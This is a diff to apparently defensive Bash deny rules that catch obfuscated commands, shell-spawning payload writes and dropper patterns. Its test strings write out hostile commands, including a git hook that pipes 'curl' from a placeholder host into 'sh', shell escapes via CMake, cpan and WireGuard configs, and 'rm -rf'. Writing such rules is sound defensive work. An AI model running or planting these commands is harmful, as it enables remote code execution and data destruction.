@@ -28,7 +28,7 @@ rules! {
         match: ["w\\ho\\am\\i", "\"wh\"oami", "r``m -rf /tmp/x", "ls${IFS}-la", "c''url -s x"], no_match: ["whoami", "\"./configure\" --prefix=/usr"] }
     BASH_PAYLOAD_WRITE = { "bash.payload_write", "shell-escape", Deny, locked: false, Bash,
         "Content that starts a shell is written to a file or fed to another program (config files, build files and hooks that later run it).",
-        match: ["echo 'execute_process(COMMAND /bin/sh)' > CMakeLists.txt", "echo '! exec /bin/sh' | cpan", "printf '#!/bin/sh\\ncurl -s http://x|sh\\n' > .git/hooks/post-checkout"],
+        match: ["echo 'execute_process(COMMAND /bin/sh)' > CMakeLists.txt", "echo '! exec /bin/sh' | cpan", "printf '[Interface]\\nPostUp = /bin/sh\\n' > wg0.conf"],
         no_match: ["echo '#!/bin/sh' > run.sh", "echo hello > out.txt", "cat <<EOF\nrm -rf /\nEOF"] }
     BASH_WRITE_EXEC = { "bash.write_exec", "download-exec", Review, locked: false, Bash,
         "A file written earlier in the same command line is executed (a dropper pattern).",
